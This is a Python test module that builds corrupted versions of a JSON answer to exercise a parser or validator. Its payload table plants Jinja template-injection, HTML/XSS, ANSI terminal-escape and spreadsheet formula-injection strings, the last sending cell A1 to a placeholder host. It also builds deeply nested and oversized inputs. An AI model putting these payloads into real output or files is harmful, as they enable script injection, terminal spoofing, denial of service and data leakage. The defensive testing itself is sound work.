"""Faults of the answer itself: pure edits of its text, or of the JSON in it."""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Callable
from itertools import cycle, islice
from typing import Any

_LONG = 20
_LEVELS = 100_000
_DIGITS = 5_000
_PAYLOADS = {
    "jinja": "{{ ''.__class__ }}{% for i in range(10**9) %}x{% endfor %}{# gone #}",
    "html": "</script><img src=x onerror=alert(1)><b>bold</b>",
    "ansi": "\x1b[2J\x1b]8;;http://example.invalid\x07click\x1b]8;;\x07\x9b31mred",
    "formula": '=HYPERLINK("http://example.invalid?"&A1)',
}
_ELSEWHERE = "The harvest festival of Lower Wessex drew a record crowd on a rainy Sunday afternoon."
_CURLY = str.maketrans({"'": "’", '"': "”"})
_STRAIGHT = str.maketrans({"’": "'", "‘": "'", "“": '"', "”": '"'})


def _map(tree: Any, change: Callable[[str], Any]) -> Any:  # noqa: ANN401 - any JSON value
    """Return `tree` with `change` made to every string that is not a key."""
    if isinstance(tree, dict):
        return {name: _map(value, change) for name, value in tree.items()}
    if isinstance(tree, list):
        return [_map(value, change) for value in tree]
    return change(tree) if isinstance(tree, str) else tree


def _strings(change: Callable[[str], Any], *, least: int = 0) -> Callable[[str], str]:
    """Return an edit of every string of at least so many characters."""
    return lambda text: _dumped(_map(json.loads(text), lambda s: change(s) if len(s) >= least else s))


def _lists(change: Callable[[list[Any]], list[Any]]) -> Callable[[str], str]:
    """Return an edit of every list at the top of the answer."""

    def edit(text: str) -> str:
        tree = json.loads(text)
        return _dumped({k: change(v) if isinstance(v, list) else v for k, v in tree.items()})

    return edit


def _field(change: Callable[[dict[str, Any]], dict[str, Any]]) -> Callable[[str], str]:
    """Return an edit of the answer's object."""
    return lambda text: _dumped(change(json.loads(text)))


def _member(text: str) -> Callable[[str], str]:
    """Return an edit that puts raw JSON `"odd": text` in front of the answer's members."""
    return lambda answer: answer.replace("{", '{"odd": ' + text + ("" if answer.strip() == "{}" else ", "), 1)


def _deep(text: str) -> str:
    return _member("[" * _LEVELS + "]" * _LEVELS)(text)


def _dumped(tree: object) -> str:
    return json.dumps(tree, ensure_ascii=False)


def _planted(name: str) -> Callable[[str], str]:
    return _strings(lambda s: f"{s} {_PAYLOADS[name]}")


def _backwards(text: str) -> str:
    return " ".join(reversed(text.split()))


CONTENT: dict[str, Callable[[str], str]] = {
    "json-cut": lambda text: text[: -max(1, len(text) // 3)],
    "fenced": lambda text: f"```json\n{text}\n```",
    "prose": lambda text: f"Here is the JSON you asked for:\n\n{text}\n\nLet me know if you need more.",
    "thoughts": lambda text: f"<think>The article says {{something}}.</think>\n{text}",
    "two-values": lambda text: f"{text}\n{text}",
    "bom": lambda text: "\ufeff" + text,
    "trailing-text": lambda text: f"{text}\nDone.",
    "duplicate-keys": _member('1, "odd": 2'),
    "nan": _member("NaN"),
    "infinity": _member("-Infinity"),
    "1e999": _member("1e999"),
    "minus-zero": _member("-0"),
    "5000-digits": _member("9" * _DIGITS),
    "100000-levels": _deep,
    "lone-surrogate": _member(r'"\ud800"'),
    "nul": _strings(lambda s: s + "\0"),
    "wrong-types": _strings(len),
    "extra-field": _field(lambda tree: tree | {"odd": "not asked for"}),
    "missing-field": _field(lambda tree: dict(islice(tree.items(), 1, None))),
    "empty-lists": _lists(lambda _: []),
    "10000-items": _lists(lambda items: list(islice(cycle(items), 10_000))),
    "same-item-500-times": _lists(lambda items: items[:1] * 500),
    "ungrounded": _strings(_backwards, least=_LONG),
    "other-article": _strings(lambda _: _ELSEWHERE, least=_LONG),
    "decomposed": _strings(lambda s: unicodedata.normalize("NFD", s)),
    "curly-quotes": _strings(lambda s: s.translate(_CURLY)),
    "straight-quotes": _strings(lambda s: s.translate(_STRAIGHT)),
    **{name: _planted(name) for name in _PAYLOADS},
}
